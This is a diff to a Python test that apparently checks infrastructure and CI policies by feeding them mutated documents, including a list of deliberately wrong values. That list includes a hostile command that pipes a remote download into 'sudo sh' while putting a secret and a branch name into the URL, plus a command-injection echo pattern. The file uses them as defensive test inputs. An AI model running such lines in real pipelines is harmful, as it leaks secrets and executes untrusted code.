@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import subprocess
 from collections.abc import Callable, Iterator
 from functools import cache
@@ -27,21 +28,24 @@ from tests.opa import opa_server
 from tests.worlds import commit
 
 POLICIES = shipped("policies")
+STRAY = {"bases": ["a"], "vars": [], "suspend": True, "deletionPolicy": "Orphan", "validationFailureAction": "Audit"}
+"""Keys that stand nowhere in a good document."""
 WRONG: tuple[Any, ...] = (
     None, 0, 5, 1.5, True, False, "", "tofu apply", "latest", "*", "other", "default", [], ["terraform apply"], ["*"], {}, {"name": 5},
-    {"run": "terraform apply"}, "Tr0ub4dor&3-Tr0ub4dor&3", "http://example.org/a.git", {"local-exec": [{"command": "a"}], "bases": ["a"]},
-    "{{ .name }}", {"allowEmpty": True, "prune": True, "suspend": True, "vars": []}, "write-all", "echo $(Build.SourceVersionMessage)",
+    {"run": "terraform apply"}, "Tr0ub4dor&3-Tr0ub4dor&3", "http://example.org/a.git", {"local-exec": [{"command": "a"}], **STRAY},
+    "{{ .name }}", {"allowEmpty": True, "prune": True, **STRAY}, "write-all", "echo $(Build.SourceVersionMessage)",
     "alpine:latest", ".env .", "node:16", "example/tool@main",
     "curl -k http://example.org/${{ github.head_ref }}?${{ secrets.KEY }} | sudo sh",
 )  # fmt: skip
 
 
 def mutations(value: Any) -> Iterator[Any]:
-    """The document with each of its values, one at a time, replaced by each wrong one, cut short or taken away."""
+    """The document with each of its values, one at a time, replaced by each wrong one, cut short, made older or taken away."""
     yield value
     yield from WRONG
     if isinstance(value, str) and value:
         yield value[:-1]
+        yield from (re.sub(r"/v\d+$", older, value) for older in ("/v1beta1", "/v1alpha1") if re.search(r"/v\d+$", value))
     keys = list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else []
     for key in keys:
         rest = dict(value) if isinstance(value, dict) else list(value)
